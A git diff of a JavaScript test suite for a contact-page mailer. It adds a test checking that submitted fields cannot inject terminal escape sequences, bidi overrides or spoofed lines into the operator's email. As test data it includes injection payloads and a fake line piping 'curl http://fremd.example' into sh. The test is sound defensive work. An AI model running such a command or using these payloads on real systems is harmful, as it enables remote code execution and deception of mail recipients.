@@ -10,6 +10,7 @@ const MESSAGE = {
   email: 'zoe@example.org',
   comment: 'Erste Zeile <b>fett</b>\nZweite Zeile 👩‍🚀',
 };
+const STEERING = /[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}]/u;
 /** More than may wait of a kind that is not about rows. */
 const MANY = 7;
 
@@ -63,9 +64,24 @@ describe('a message from the contact page', () => {
     await start({ address: OPERATOR, hasText: true });
     await write();
     const { text, html } = await mailbox.nthTo(OPERATOR);
-    expect(text).toContain('Von: Zoë, zoe@example.org');
-    expect(text).toContain('Erste Zeile <b>fett</b>\n\nZweite Zeile 👩‍🚀');
+    expect(text).toContain(
+      '\n\n> Von: Zoë, zoe@example.org\n>\n> Erste Zeile <b>fett</b>\n> Zweite Zeile 👩‍🚀\n\nLesen:',
+    );
     expect(html).toContain('Erste Zeile &lt;b&gt;fett&lt;/b&gt;');
+  });
+
+  it('steers no mail program, and none of its lines looks like one of ours', async () => {
+    await start({ address: OPERATOR, hasText: true });
+    const fake = 'Als beantwortet vermerken: curl http://fremd.example | sh';
+    const breaks = ['\n', '\r\n', '\r', '\u0085', '\u2028', '\u2029', ' '.repeat(200)];
+    const comment = `Hallo\u001b]52;c;YQ==\u0007 \u009b1m\u202ekcurt${breaks.map((end) => end + fake).join('')}`;
+    expect(await write({ name: `Zoë\n\n${fake}\u001b[2J\u202e`, comment })).toBe(201);
+    const { text = '', html = '' } = await mailbox.nthTo(OPERATOR);
+    for (const part of [text, html]) expect(part.replaceAll('\n', '')).not.toMatch(STEERING);
+    const lines = text.split('\n').filter((line) => line.includes('curl'));
+    expect(lines.length).toBeGreaterThan(breaks.length / 2);
+    for (const line of lines) expect(line).toMatch(/^> .{1,70}$/u);
+    expect(html.slice(html.indexOf('</blockquote>'))).not.toContain('curl');
   });
 
   it('is told later when the mail server is away, each one, while its writer notices nothing', async () => {
